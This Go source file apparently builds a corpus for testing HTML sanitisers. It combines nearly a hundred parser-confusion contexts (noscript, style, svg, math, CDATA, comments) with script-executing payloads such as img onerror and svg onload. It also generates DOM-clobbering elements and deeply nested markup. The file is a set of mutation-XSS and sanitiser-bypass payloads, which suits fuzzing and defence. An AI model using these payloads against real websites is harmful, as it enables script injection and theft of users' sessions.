package hostile

import "strings"

// parsed are places that a parser reads by rules of their own: "%" is inside.
// What a sanitiser takes for text or for an attribute may be an element for the
// browser, or become one when the result is parsed again.
var parsed = lines(`
<noscript><p title="</noscript>%">
<noscript><style></noscript>%</style>
<style><!--</style>%--></style>
<style><a title="</style>%"></style>
<style><style/>%
<script><!--<script></script>%</script>
<title><a title="</title>%"></title>
<textarea><p title="</textarea>%"></textarea>
<xmp><p title="</xmp>%"></xmp>
<noembed><p title="</noembed>%"></noembed>
<noframes><p title="</noframes>%"></noframes>
<iframe><p title="</iframe>%"></iframe>
<listing>&lt;/listing&gt;%</listing>
<plaintext>%
<template><p title="</template>%"></template>
<template><style><p title="</style></template>%"></template>
<svg><style><p title="</style>%"></style></svg>
<svg></p><style><a id="</style>%"></svg>
<svg><p><style><g title="</style>%"></svg>
<svg><title><style><p title="</style></title></svg>%"></svg>
<svg><desc><noscript></desc></svg>%</noscript>
<svg><desc><title><a title="</title></desc></svg>%"></svg>
<svg><foreignObject><math><mi><style><p title="</style>%"></math></svg>
<svg><![CDATA[><p title="]]>%"></svg>
<svg><![CDATA[</svg>]]>%</svg>
<svg><textarea><title><p title="</title></textarea>%"></svg>
<svg><a><p></a></svg>%
<svg><script>/*</script>*/</svg>%
<svg><font color=x><svg>%</svg></font></svg>
<svg><switch><foreignObject><form><svg><a></form></foreignObject>%</svg>
<math><mtext><table><mglyph><style><!--</style>%--></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math>%</style></form>
<math><mtext><table><mglyph><svg><mtext><style><path id="</style>%"></table></math>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>%"></style></h1></math>
<math><mi><li><table><mglyph><style><![CDATA[</style>%]]></style></table></li></math>
<math><annotation-xml encoding="text/html"><style><p title="</style>%"></style></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg></p><style><a title="</style>%"></math>
<math><annotation-xml><style><p title="</style>%"></annotation-xml></math>
<math></p><style><!--</style>%--></math>
<math><style>&lt;/style&gt;%</style></math>
<math><ms><svg><title><math><style><p title="</style>%"></math>
<select><style></select>%</style>
<select><noscript></select>%</noscript>
<select><template><p title="</template></select>%"></select>
<select><option><xmp></select>%</xmp>
<table><style></table>%</style>
<table><caption><svg></caption>%</svg></table>
<table><tr><td><form><table></td></form>%</table>
<table>%<tr><td>x</table>
<table><a href="https://example.com/">%<table></a>x</table>
<form id="a"><form id="b">%</form></form>
<form><div></form><form>%</form></div>
<a><table><a>%</table></a>
<b><p></b>%</p><i></b>
<p><b><table><p>%</b></table>
<frameset><noframes>%</noframes></frameset>
<object><p title="</object>%"></object>
<video><source><p title="</video>%"></video>
<audio><p title="</audio>%"></audio>
<canvas><p title="</canvas>%"></canvas>
<dialog><p title="</dialog>%"></dialog>
<button><p title="</button>%"></button>
<marquee><p title="</marquee>%"></marquee>
<applet><p title="</applet>%"></applet>
<nobr><nobr><p title="</nobr>%"></nobr>
<ruby><rt><p title="</ruby>%"></ruby>
<!--><p title="-->%"> -->
<!---><p title="-->%"> -->
<!-- --!>%-->
<!-- <!-- -->%-->
<!--[if IE]>%<![endif]-->
<!--[if !mso]><!-->%<!--<![endif]-->
<![if true]>%<![endif]>
<![CDATA[%]]>
<!>%
<!x "%">
<?x "%"?>
<?php ?>%
</ x="%">
</p/x="%">
</%
<x:p xmlns:x="http://www.w3.org/1999/xhtml">%</x:p>
<p title='"'>%<b title="'">
<p title="` + "`" + `">%<b title="` + "`" + `">
<p title=` + "`" + `%` + "`" + `>x
<p title=x"%">
<p title="&quot;%">x</p>
<p title="&quot;&gt;%">x</p>
<p title='&apos;&gt;%'>x</p>
<a href="https://example.com/&quot;%">x</a>
<a href='https://example.com/"%'>x</a>
<img alt="&lt;/noscript&gt;%" src="data:image/png;base64,iVBORw0KGgo=">
<img alt="&quot;&gt;%">
<font face="&quot;&gt;%">x</font>
<p style="font-family:'&quot;&gt;%'">x</p>
<div
<p
title="
<<
<%
&lt;%&gt;
&amp;lt;%
`)

// inner are what a mutation sets free.
var inner = []func(place) string{
	func(p place) string { return "<img src=x onerror=" + p.js + ">" },
	func(p place) string { return "<img src=" + p.url + ">" },
	func(p place) string { return "<svg onload=" + p.js + "></svg>" },
	func(p place) string { return "<script>" + p.js + "</script>" },
	func(p place) string { return "<iframe srcdoc='<script>" + p.js + "</script>'></iframe>" },
	func(p place) string { return "<link rel=stylesheet href=" + p.url + ">" },
	func(p place) string { return "<style>@import '" + p.url + "';</style>" },
	func(p place) string { return "&lt;img src=x onerror=" + p.js + "&gt;" },
	func(p place) string { return "<details open ontoggle=" + p.js + ">x</details>" },
	func(p place) string { return "<b id=x name=body style='background:url(" + p.url + ")'>x</b>" },
}

// clobbering name themselves after what a page's script asks for.
var clobbering = strings.Fields(`attributes body childNodes children cookie createElement documentElement firstChild forms getElementById
	head innerHTML insertBefore lastChild location m-frame m-subject m-text message namespaceURI nodeName ownerDocument
	parentNode querySelector removeAttribute removeChild setAttribute tagName textContent __proto__ constructor toString`)

func (c *corpus) mutations() {
	for _, around := range parsed {
		for _, spell := range inner {
			c.add("mutation", func(p place) string { return strings.ReplaceAll(around, "%", spell(p)) })
			// Once more, in what may not be nested.
			c.add("mutation", func(p place) string {
				return "<table><svg><p>" + strings.ReplaceAll(around, "%", spell(p)) + "</svg></table>"
			})
		}
	}
	for _, name := range clobbering {
		for _, element := range []string{`<form id="%" onfocus="J" autofocus tabindex="1"><input name="%"></form>`, `<img name="%" id="%" src="x" onerror="J">`,
			`<a id="%"></a><a id="%" name="%" href="U">x</a>`, `<form><input name="%"><input name="%"></form>`, `<b id="%" class="%" slot="%" part="%" is="%">x</b>`} {
			c.add("mutation", func(p place) string {
				return strings.NewReplacer("%", name, "J", p.js, "U", p.url).Replace(element)
			})
		}
	}
	// Deep, long and broken.
	for _, part := range []string{"<b>", "<div>", "<svg>", "<math><mi>", "<table>", "<a href=x>", "<form>", "<!--", "<p title=\"", "</p>", "<template>", "<select>"} {
		c.add("mutation", func(p place) string {
			return strings.Repeat(part, 400) + "<img src=" + p.url + " onerror=" + p.js + ">"
		})
	}
}
